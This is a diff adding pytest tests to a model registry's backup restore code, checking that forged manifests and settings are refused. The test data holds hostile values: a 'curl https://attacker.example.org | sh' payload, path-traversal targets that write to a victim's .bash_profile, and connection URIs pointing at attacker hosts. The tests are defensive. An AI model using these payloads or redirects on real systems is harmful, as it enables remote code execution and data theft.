@@ -26,9 +26,11 @@ from registry.errors import (
     NotFound,
     RegistryError,
     StaleTrust,
+    UsageError,
 )
 from registry.manifest import WEIGHTS_NAME
 from registry.restoring import restore
+from registry.settings import CONFIG_NAME
 from registry.storage.local import LocalObjects
 from registry.vault import BACKUPS, Vault
 
@@ -299,6 +301,82 @@ def test_what_nobody_signs_is_covered_by_the_digest_that_its_owner_kept(place: P
 
     place.forge(change)
     place.refused(DigestMismatch, digest=place.made.digest)
+
+
+def settings_of(text: str, place: Place) -> Callable[[dict[str, Any]], None]:
+    """A change of the manifest that brings settings of an attacker."""
+
+    def change(document: dict[str, Any]) -> None:
+        document["files"] = [kept for kept in document["files"] if kept["path"] != CONFIG_NAME]
+        document["files"].append({"path": CONFIG_NAME, **place.keep(text.encode())})
+
+    return change
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'ledger = "sqlite:///{victim}/.bash_profile"',
+        'ledger = "sqlite:///{new}/../victim/.bash_profile"',
+        'ledger = "postgresql+psycopg://ledger@attacker.example.org/ledger"',
+        'mlflow_tracking_uri = "sqlite:///{victim}/mlflow.db"',
+        'mlflow_tracking_uri = "http://attacker.example.org"',
+        'mlflow_tracking_uri = "{victim}"',
+        'store = "file://{victim}"',
+        'store = "file://{new}/%2e%2e/victim"',
+        'store = "s3://attacker/everything"',
+        'cache = "{victim}"',
+        'keys = {{ online = "file:{victim}/online.pem" }}',
+        'keys = {{ online = "azurekms://attacker.example.org/keys/k/1" }}',
+    ],
+)
+def test_forged_settings_lead_nowhere(place: Place, tmp_path: Path, line: str) -> None:
+    """Neither a file of the person who restores is written, nor a server of the attacker is asked."""
+    victim = tmp_path / "victim"
+    (victim / "trust").mkdir(parents=True)
+    (victim / "trust" / "notes.txt").write_text("mine")
+    evil = place.keep(b"curl https://attacker.example.org | sh\n")
+    place.forge(lambda document: entry(document, "databases", "ledger").update(evil))
+    text = line.format(victim=victim, new=place.new)
+    place.forge(settings_of(f"[registry]\n{text}\n", place))
+    before = sorted(path for path in tmp_path.rglob("*") if not path.is_relative_to(place.new))
+    assert "--sha256" in place.refused(UsageError).mend
+    assert not place.new.exists()
+    assert sorted(path for path in tmp_path.rglob("*") if not path.is_relative_to(place.new)) == before
+
+
+def test_settings_that_their_owner_has_proven_or_said_anew_may_lead_elsewhere(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    origin = copy_registry(tmp_path / "origin")
+    moved = tmp_path / "srv" / "ledger.db"
+    moved.parent.mkdir()
+    (origin.place.home / "registry" / "ledger.db").rename(moved)
+    (origin.place.home / CONFIG_NAME).write_text(f'[registry]\nledger = "sqlite:///{moved}"\n')
+    vault = Vault(LocalObjects(tmp_path / "backups"))
+    made = backups.make(Registry.open(origin.place.home), vault, {})
+    with pytest.raises(UsageError, match="proves"):
+        restore(tmp_path / "new", vault, {"ledger": f"sqlite:///{tmp_path}/other.db"})
+    with monkeypatch.context() as patch:
+        patch.setenv("ADAPTER_FOUNDRY_LEDGER", f"sqlite:///{tmp_path}/drill.db")
+        restore(tmp_path / "drill", vault, {})
+    assert (tmp_path / "drill.db").exists()
+    moved.unlink()
+    restore(tmp_path / "new", vault, {}, digest=made.digest)
+    assert moved.exists()
+
+
+@pytest.mark.parametrize(
+    "evil", [b"curl https://attacker.example.org | sh\n", b"SQLite format 3\0" + b"\nsh\n" * 2000]
+)
+def test_a_dump_that_is_no_database(place: Place, evil: bytes) -> None:
+    place.forge(lambda document: entry(document, "databases", "ledger").update(place.keep(evil)))
+    place.refused(DigestMismatch)
+    assert not place.new.exists()
+    target = place.root / ".bash_profile"
+    with pytest.raises(DigestMismatch):
+        restore(place.new, place.vault, {"ledger": f"sqlite:///{target}"}, only=["ledger"])
+    assert not target.exists()
 
 
 def test_no_manifest_of_ours(place: Place) -> None:
